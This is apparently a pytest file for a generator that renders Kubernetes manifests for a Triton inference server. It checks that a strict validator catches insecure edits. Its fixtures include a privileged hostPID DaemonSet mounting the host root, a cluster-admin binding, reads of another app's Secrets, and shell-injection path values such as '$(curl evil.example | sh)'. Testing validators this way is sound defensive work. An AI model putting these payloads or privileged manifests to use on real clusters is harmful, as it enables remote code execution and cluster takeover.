"""The Kubernetes manifests a cluster admin accepts, and `validate --strict` as that admin's review.

Rendered pods pass Pod Security "restricted", hold no ServiceAccount token unless they exec (the multi-node
leader), carry CPU/memory requests and limits, start tritonserver with its admin APIs restricted by the key
of a Secret (never in the manifest), sit behind NetworkPolicies; the load test's image is pinned and fetches
nothing at start. Each way a manifest can break one of these makes `validate --strict` fail with the reason.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
import yaml

from generator.deploy.kubernetes import MANIFESTS
from generator.deploy.loadtest import LOADTEST_DOCKERFILE, LOADTEST_MANIFESTS
from generator.deploy.manifest_checks import Findings, documents, security_review
from generator.deploy.pod_security import restricted_violations
from generator.repo.problems import failing
from generator.repo.validate import validate_repository
from test_deploy import gpu_spec, render_gpu, topo_overrides, weights  # noqa: F401 (fixture)
from test_golden import cli
from typer.testing import CliRunner

from generator.cli import app
from generator.errors import SpecError

TWO_NODES = topo_overrides(2, 2, 1, 4, 1)
SERVER_LABELS = {"app.kubernetes.io/name": "tritongen", "app.kubernetes.io/component": "triton"}


@pytest.fixture(scope="module")
def rendered(weights, tmp_path_factory) -> Path:  # noqa: F811
    """An LLM-API repository over two nodes: every kind of pod (leader, worker, Locust master and workers)."""
    return render_gpu(gpu_spec(weights, "llmapi", *TWO_NODES), tmp_path_factory.mktemp("sec") / "repo", None)


@pytest.fixture
def repo(rendered, tmp_path) -> Path:
    return Path(shutil.copytree(rendered, tmp_path / "repo"))


def docs_of(path: Path) -> list[dict]:
    return [d for d in yaml.safe_load_all(path.read_text()) if d]


def test_rendered_manifests_pass_the_review(repo):
    docs = docs_of(repo / MANIFESTS) + docs_of(repo / LOADTEST_MANIFESTS)
    kinds = [d["kind"] for d in docs]
    assert kinds.count("NetworkPolicy") == 3
    lws = next(d for d in docs if d["kind"] == "LeaderWorkerSet")["spec"]["leaderWorkerTemplate"]
    leader, worker = lws["leaderTemplate"]["spec"], lws["workerTemplate"]["spec"]
    assert restricted_violations(leader) == [] and restricted_violations(worker) == []
    assert leader["automountServiceAccountToken"] is True and worker["automountServiceAccountToken"] is False
    script = leader["containers"][0]["command"][2]
    assert "--http-restricted-api=" in script and "/var/run/tritongen-admin/key" in script
    secret = next(v for v in leader["volumes"] if v["name"] == "admin-key")["secret"]["secretName"]
    assert secret == "tritongen-admin-key" and not any(d["kind"] == "Secret" for d in docs)  # the key is never rendered
    assert {"cpu", "memory"} <= set(leader["containers"][0]["resources"]["limits"])
    role = next(d for d in docs if d["kind"] == "Role")
    assert all(rule["resourceNames"] for rule in role["rules"])  # exec into the group's workers only
    pods = [d for d in docs if d["kind"] in ("Job", "Deployment")]
    for pod in pods:
        spec = pod["spec"]["template"]["spec"]
        assert restricted_violations(spec) == [] and spec["automountServiceAccountToken"] is False
        assert "pip" not in " ".join(spec["containers"][0]["command"])
    assert "==" in (repo / LOADTEST_DOCKERFILE).read_text()  # packages pinned, installed at build time
    assert failing(validate_repository(repo), strict=True) == []


def _edit(path: Path, change) -> None:
    docs = docs_of(path)
    change(docs)
    path.write_text(yaml.safe_dump_all(docs, sort_keys=False))


def _leader(docs):
    return next(d for d in docs if d["kind"] == "LeaderWorkerSet")["spec"]["leaderWorkerTemplate"]["leaderTemplate"]["spec"]


def _leader_template(docs):
    return next(d for d in docs if d["kind"] == "LeaderWorkerSet")["spec"]["leaderWorkerTemplate"]["leaderTemplate"]


def _worker(docs):
    return next(d for d in docs if d["kind"] == "LeaderWorkerSet")["spec"]["leaderWorkerTemplate"]["workerTemplate"]["spec"]


def _job(docs):
    return next(d for d in docs if d["kind"] == "Job")["spec"]["template"]["spec"]


INJECTED = {"apiVersion": "apps/v1", "kind": "DaemonSet", "metadata": {"name": "x", "namespace": "kube-system"},
            "spec": {"selector": {"matchLabels": {"a": "b"}}, "template": {"metadata": {"labels": {"a": "b"}}, "spec": {
                "hostPID": True, "containers": [{"name": "x", "image": "busybox:1", "securityContext": {"privileged": True},
                                                 "resources": {"requests": {"cpu": "1", "memory": "1Gi"},
                                                               "limits": {"cpu": "1", "memory": "1Gi"}}}],
                "volumes": [{"name": "root", "hostPath": {"path": "/"}}]}}}}

# (name, file, change, words in the warning)
BREAKS = [
    ("root allowed", MANIFESTS, lambda d: _leader(d)["containers"][0]["securityContext"].__setitem__("runAsNonRoot", False),
     "runAsNonRoot"),
    ("escalation", MANIFESTS, lambda d: _worker(d)["containers"][0].pop("securityContext"), "allowPrivilegeEscalation"),
    ("no seccomp", LOADTEST_MANIFESTS, lambda d: _job(d)["securityContext"].pop("seccompProfile"), "seccompProfile"),
    ("injected DaemonSet", MANIFESTS, lambda d: d.append(INJECTED), "hostPID"),
    ("host path", MANIFESTS, lambda d: d.append(INJECTED), "hostPath"),
    ("worker token", MANIFESTS, lambda d: _worker(d).pop("automountServiceAccountToken"), "ServiceAccount token"),
    ("best effort", MANIFESTS, lambda d: _leader(d)["containers"][0]["resources"]["limits"].pop("memory"), "memory limits"),
    ("exec anywhere", MANIFESTS, lambda d: [r.pop("resourceNames") for r in next(x for x in d if x["kind"] == "Role")["rules"]], "pods/exec on every pod"),
    ("admin APIs open", MANIFESTS, lambda d: _leader(d)["containers"][0].__setitem__(
        "command", ["/bin/sh", "-c", "exec /bin/sh /x/launch.sh"]), "restricted-api"),
    ("no network policy", MANIFESTS, lambda d: d.remove(next(x for x in d if x["kind"] == "NetworkPolicy")),
     "NetworkPolicy"),
    ("pip at start", LOADTEST_MANIFESTS, lambda d: _job(d)["containers"][0]["command"].__setitem__(
        2, "pip install locust && locust"), "installs packages"),
    ("unpinned image", LOADTEST_MANIFESTS, lambda d: _job(d)["containers"][0].__setitem__("image", "locustio/locust"),
     "not pinned"),
    # bindings whose grant the file does not show (review 11: a ClusterRoleBinding to cluster-admin passed)
    ("cluster-admin bound", MANIFESTS, lambda d: d.append(
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": "x"},
         "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
         "subjects": [{"kind": "ServiceAccount", "name": "tritongen", "namespace": "default"}]}), "every namespace"),
    ("a role from elsewhere", MANIFESTS, lambda d: next(x for x in d if x["kind"] == "RoleBinding")["roleRef"].update(
        kind="ClusterRole", name="edit"), "not reviewed"),
    # another application's Secret read by a pod (review 11)
    ("another Secret in env", MANIFESTS, lambda d: _leader(d)["containers"][0]["env"].append(
        {"name": "DB", "valueFrom": {"secretKeyRef": {"name": "other-app-db", "key": "password"}}}), "other-app-db"),
    ("another Secret as envFrom", LOADTEST_MANIFESTS, lambda d: _job(d)["containers"][0].__setitem__(
        "envFrom", [{"secretRef": {"name": "other-app-db"}}]), "other-app-db"),
    ("another Secret as a volume", MANIFESTS, lambda d: _worker(d)["volumes"].append(
        {"name": "s", "projected": {"sources": [{"secret": {"name": "other-app-db"}}]}}), "other-app-db"),
    # Pod Security's baseline rules, which "restricted" includes (second review)
    ("unmasked /proc", MANIFESTS, lambda d: _leader(d)["containers"][0]["securityContext"].__setitem__(
        "procMount", "Unmasked"), "procMount"),
    ("super-privileged SELinux type", MANIFESTS, lambda d: _worker(d)["containers"][0]["securityContext"].__setitem__(
        "seLinuxOptions", {"type": "spc_t"}), "SELinux"),
    ("SELinux user", MANIFESTS, lambda d: _worker(d).setdefault("securityContext", {}).__setitem__(
        "seLinuxOptions", {"user": "system_u"}), "SELinux"),
    ("AppArmor unconfined", LOADTEST_MANIFESTS, lambda d: _job(d)["containers"][0]["securityContext"].__setitem__(
        "appArmorProfile", {"type": "Unconfined"}), "AppArmor"),
    ("AppArmor annotation", MANIFESTS, lambda d: _leader_template(d).setdefault("metadata", {}).setdefault(
        "annotations", {}).__setitem__("container.apparmor.security.beta.kubernetes.io/triton", "unconfined"), "AppArmor"),
    ("unsafe sysctl", MANIFESTS, lambda d: _leader(d).setdefault("securityContext", {}).__setitem__(
        "sysctls", [{"name": "kernel.core_pattern", "value": "|/tmp/x"}]), "sysctl"),
    ("Windows host process", MANIFESTS, lambda d: _leader(d)["containers"][0]["securityContext"].__setitem__(
        "windowsOptions", {"hostProcess": True}), "hostProcess"),
]


@pytest.mark.parametrize("name, file, change, words", BREAKS, ids=[b[0] for b in BREAKS])
def test_the_review_names_what_a_cluster_admin_would_refuse(repo, name, file, change, words):
    """The review validate runs on each manifest (the end-to-end `validate --strict` run is the next test)."""
    _edit(repo / file, change)
    out = Findings()
    security_review(repo / file, documents(repo / file, out), out, SERVER_LABELS if file == MANIFESTS else None,
                    ("tritongen-admin-key", "tritongen-loadtest-token"))
    problems = failing(out.problems, strict=True)
    assert any(words in p.message for p in problems), [p.message for p in problems]


def test_validate_strict_exits_1_naming_the_reason(repo):
    _edit(repo / MANIFESTS, lambda d: d.append(INJECTED))
    out = cli("validate", str(repo), "--strict", code=1)
    assert "hostPID" in out and "Pod Security" in out


def test_a_newline_in_artifacts_dir_is_refused_before_any_manifest_is_written(tmp_path):
    spec = tmp_path / "spec.yaml"
    spec.write_text(yaml.safe_dump({"artifacts": {"dir": "/data/x\n---\napiVersion: apps/v1\nkind: DaemonSet\n#"},
                                    "serving": {"engine": "llmapi"}, "build": {"gpu": "b200"}}))
    result = CliRunner().invoke(app, ["render", str(spec), "-o", str(tmp_path / "repo"), "--gpu"])
    assert isinstance(result.exception, SpecError), result.output
    assert "artifacts.dir" in result.exception.message and "control character" in result.exception.message
    assert not (tmp_path / "repo").exists()


@pytest.mark.parametrize("field, value", [("kubernetes.repository_path", "/models/$(curl evil.example | sh)/repo"),
                                          ("kubernetes.repository_path", "/models/`id`"),
                                          ("artifacts.dir", "/data/my models")])
def test_a_repository_path_tritons_stub_launcher_would_run_is_refused_for_the_pods(tmp_path, field, value):
    """Second review: the pods' tritonserver starts each Python model's stub with ``bash -c`` and the model's
    path unquoted (Triton 2.51), so a repository path holding ``$(…)`` ran it in the pod however the
    manifest quoted it (and a space kept every model from loading). Render refuses it, naming the field
    it comes from (artifacts.dir when kubernetes.repository_path is derived from it)."""
    spec = tmp_path / "spec.yaml"
    data = {"serving": {"engine": "llmapi"}, "build": {"gpu": "b200"}}
    section, key = field.split(".")
    data.setdefault(section, {})[key] = value
    spec.write_text(yaml.safe_dump(data))
    result = CliRunner().invoke(app, ["render", str(spec), "-o", str(tmp_path / "repo"), "--gpu"])
    assert isinstance(result.exception, SpecError), result.output
    assert field in result.exception.where and "bash" in result.exception.message, result.exception
    assert not (tmp_path / "repo").exists()
